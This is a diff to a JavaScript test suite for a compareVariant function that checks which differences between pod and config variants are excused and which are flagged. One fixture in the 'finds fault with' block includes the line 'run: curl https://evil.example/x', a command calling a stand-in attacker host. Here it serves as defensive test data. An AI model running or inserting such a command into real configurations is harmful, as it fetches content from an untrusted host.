@@ -91,6 +91,18 @@ describe('compareVariant excuses', () => {
       config('image:', `  repository: ${registry}/a/app`, '  tag: "1"', 'key: zC3'),
     ],
     [
+      'one beside a possible reference that moves',
+      config('name: quay.io/a/rules', 'rules: quay.io/a/rules:1.0', 'key: xA1'),
+      config('name: quay.io/a/rules', 'rules: quay.io/a/rules:1.0', 'key: yB2'),
+      config('name: quay.io/a/rules', `rules: ${registry}/a/rules:1.0`, 'key: zC3'),
+    ],
+    [
+      'one in the name of a container',
+      pod(app).replace('image:', 'name: xA1, image:'),
+      pod(app).replace('image:', 'name: yB2, image:'),
+      pod(moved).replace('image:', 'name: zC3, image:'),
+    ],
+    [
       'one that is by chance as it was in the second baseline',
       pod(app, 'a: xA1'),
       pod(app, 'a: yB2'),
@@ -132,6 +144,12 @@ describe('compareVariant finds fault with', () => {
       config(`use ${app}`, 'key: xA1'),
       config(`use ${app}`, `and ${app}`, 'key: yB2'),
       config(`use ${moved}`, 'key: zC3', 'run: curl https://evil.example/x'),
+    ],
+    [
+      'a random word in what a container runs',
+      pod(app).replace('image:', 'command: [xA1], image:'),
+      pod(app).replace('image:', 'command: [yB2], image:'),
+      pod(moved).replace('image:', 'command: [zC3], image:'),
     ],
     [
       'what is not random at all',
